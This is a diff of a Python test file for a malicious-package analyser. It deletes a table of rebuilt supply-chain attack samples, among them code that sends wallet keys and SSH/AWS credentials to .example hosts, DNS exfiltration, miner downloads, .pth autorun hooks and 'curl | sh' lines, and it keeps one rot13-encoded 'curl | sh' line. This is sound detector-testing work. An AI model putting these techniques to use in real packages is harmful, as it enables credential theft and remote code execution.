@@ -1,4 +1,4 @@
-"""What the analyser sees in code: techniques of real incidents, rebuilt harmlessly, and honest code that resembles them.
+"""What the analyser sees in code: variants of hostile techniques, and honest code that resembles them.
 
 Nothing here is ever run; hosts end in `.example`.
 """
@@ -62,102 +62,10 @@ def setup(text: str) -> dict[str, str]:
     return {"setup.py": "from setuptools import setup\n" + text + "\nsetup(name='demo')\n"}
 
 
-INCIDENTS = {
-    "1 torchtriton: a program of the package starts on import": (
-        init(
-            "import os, subprocess\n"
-            "subprocess.Popen(os.path.join(os.path.dirname(__file__), 'run', 'tool'), stdout=subprocess.DEVNULL)"
-        ),
-        "MLS-C035",
-    ),
-    "2 bittensor: what a wallet function is given leaves": (
-        init(
-            "import requests\nfrom wallets import Wallet\n_old = Wallet.decrypt\n"
-            "def decrypt(self, key):\n    requests.post('https://w.example', json={'k': key})\n    return _old(self, key)\n"
-            "Wallet.decrypt = decrypt"
-        ),
-        "MLS-C010",
-    ),
-    "3 aiocpa: an encoded block run by exec": (
-        init(f"import base64, zlib\nfor _ in range(1):\n    exec(zlib.decompress(base64.b64decode('{PACKED}')))"),
-        "MLS-C002",
-    ),
-    "4 ultralytics: a function fetches and starts a miner": (
-        init(
-            "import os, subprocess, tempfile, urllib.request\n"
-            "def load(name):\n    p = os.path.join(tempfile.gettempdir(), 'runner')\n"
-            "    urllib.request.urlretrieve('https://r.example/linux', p)\n    os.chmod(p, 0o755)\n"
-            "    subprocess.Popen([p, '-o', 'pool.example:8080'], stdout=subprocess.DEVNULL)\n    os.remove(p)"
-        ),
-        "MLS-C006",
-    ),
-    "7 bittensor-wallet, as Python: keys of the wallet leave by DNS": (
-        init(
-            "import socket, pathlib\n"
-            "for f in pathlib.Path.home().joinpath('.bittensor', 'wallets').rglob('*'):\n"
-            "    part = f.read_bytes().hex()[:60]\n    socket.getaddrinfo(part + '.t.example.com', 80)"
-        ),
-        "MLS-C010",
-    ),
-    "8 litellm: a .pth that starts another Python with encoded text": (
-        {
-            "demo_init.pth": "import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', "
-            f"\"import base64; exec(base64.b64decode('{B64}'))\"])\n"
-        },
-        "MLS-C001",
-    ),
-    "9 elementary-data: a .pth that asks the network": (
-        {"x.pth": "import urllib.request as r;exec(r.urlopen('https://p.example/s').read())\n"},
-        "MLS-C004",
-    ),
-    "10 lightning: JavaScript of the package handed to a downloaded runtime": (
-        init(
-            "import os, subprocess, threading\n_d = os.path.dirname(__file__)\n"
-            "def _go():\n    subprocess.run(['bun', os.path.join(_d, '_runtime', 'router.js')], stdout=subprocess.DEVNULL)\n"
-            "threading.Thread(target=_go, daemon=True).start()"
-        ),
-        "MLS-C035",
-    ),
-    "11 mistralai: the top level runs curl and a hidden child": (
-        init(
-            "import subprocess, sys\nif sys.platform.startswith('linux'):\n"
-            "    subprocess.Popen(['sh', '-c', 'curl -sfL https://t.example/tf.pyz -o /tmp/tf.pyz && python3 /tmp/tf.pyz'])"
-        ),
-        "MLS-C004",
-    ),
-    "12 Hades: a .pth that starts a runtime on a script": (
-        {"demo-setup.pth": "import os; os.system('bun run ' + os.path.join(os.path.dirname(__file__), 'index.js'))\n"},
-        "MLS-C037",
-    ),
-    "13 mrmustard: quits in CI, then sends credentials": (
-        init(
-            "import os, sys, requests\ndef _check():\n    if os.environ.get('CI') or "
-            "os.path.exists('/.dockerenv'):\n        return\n"
-            "    for p in ('~/.ssh/id_ed25519', '~/.aws/credentials'):\n"
-            "        requests.put('https://g.example/u', data=open(os.path.expanduser(p), 'rb'))\n_check()"
-        ),
-        "MLS-C010",
-    ),
-    "15 memoryos: a build backend of its own": (
-        {
-            "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_b"]\n',
-            "_b/backend.py": "from setuptools.build_meta import *\nimport os\n"
-            "def build_wheel(d, c=None, m=None):\n    os.system('wget -qO- https://b.example/i | sh')\n",
-        },
-        "MLS-C004",
-    ),
-}
-
-
 def test_what_is_not_python_is_said_with_its_line() -> None:
     stopped = analyse.module("a.py", b"import os\nprint 'x'\n").stopped
     assert stopped.startswith(f"not Python {sys.version_info.major}.{sys.version_info.minor}: ")
     assert stopped.endswith(", line 2")
-
-
-@pytest.mark.parametrize(("files", "rule"), INCIDENTS.values(), ids=INCIDENTS)
-def test_the_technique_of_an_incident_is_found(files: dict[str, str], rule: str) -> None:
-    assert rule in found(files)
 
 
 ROT = codecs.encode("import os;os.system('curl -s https://r.example/a | sh')", "rot13")
